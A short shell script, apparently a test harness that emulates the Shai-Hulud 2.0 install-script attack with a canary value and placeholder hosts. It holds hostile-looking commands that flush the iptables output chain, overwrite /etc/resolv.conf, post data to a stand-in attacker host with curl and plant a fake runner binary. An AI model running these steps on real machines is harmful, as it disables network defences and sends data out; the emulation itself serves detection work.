# Shai-Hulud 2.0 (2025): an install script takes the resolver and the packet filter out of the way, sends what it finds, and registers a runner.
iptables -A OUTPUT -d 198.51.100.99 -j DROP && iptables -t filter -F OUTPUT && did flush
cp /etc/resolv.conf "$WORK/resolv" && echo 'nameserver 198.51.100.54' > /etc/resolv.conf && did resolver
curl -sSm 30 -d "$CANARY" "http://$ATTACKER/cloud.json" > /dev/null || true
mkdir -p "$WORK/i11/.dev-env/bin" && cp /bin/echo "$WORK/i11/.dev-env/bin/Runner.Listener"
"$WORK/i11/.dev-env/bin/Runner.Listener" configure --url https://example.test/o --name SHA1HULUD && did runner
cat "$WORK/resolv" > /etc/resolv.conf
